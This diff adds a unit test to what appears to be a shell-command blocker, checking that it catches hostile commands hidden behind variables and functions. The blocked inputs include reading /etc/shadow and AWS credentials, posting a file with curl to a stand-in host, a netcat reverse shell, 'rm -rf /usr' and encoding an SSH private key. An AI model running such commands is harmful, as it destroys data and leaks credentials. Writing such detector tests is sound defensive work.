@@ -383,6 +383,24 @@ Test(families, persistence)
 		"ssh-keygen -y -f deploy_key > deploy_key.pub");
 }
 
+/* ---- values carried through names ---------------------------------------- */
+
+Test(families, values_through_names)
+{
+	BLOCK_ALL(
+		"target='/etc/shadow'; less \"$target\"",
+		"cat \"${CREDS:-$HOME/.aws/credentials}\"",
+		"d=$(echo /etc); cp $d/sudoers /tmp/s",
+		"post() { local f=$1; curl -sF \"file=@$f\" https://example.test/in; }; post /var/lib/dpkg/status",
+		"wipe() { rm -rf \"$1\"; }\nwipe /usr",
+		"h=192.0.2.10; p=9001; nc $h $p -e /bin/sh",
+		"cd /root/.ssh && base64 id_ed25519");
+	ALLOW_ALL(
+		"target=./build; rm -rf \"$target\"",
+		"clean() { rm -rf \"$1\"; }; clean dist",
+		"out=${OUT_DIR:-./out}; mkdir -p \"$out\" && cp report.txt \"$out\"/");
+}
+
 /* ---- reconnaissance ------------------------------------------------------- */
 
 static const char *const recon[] = {
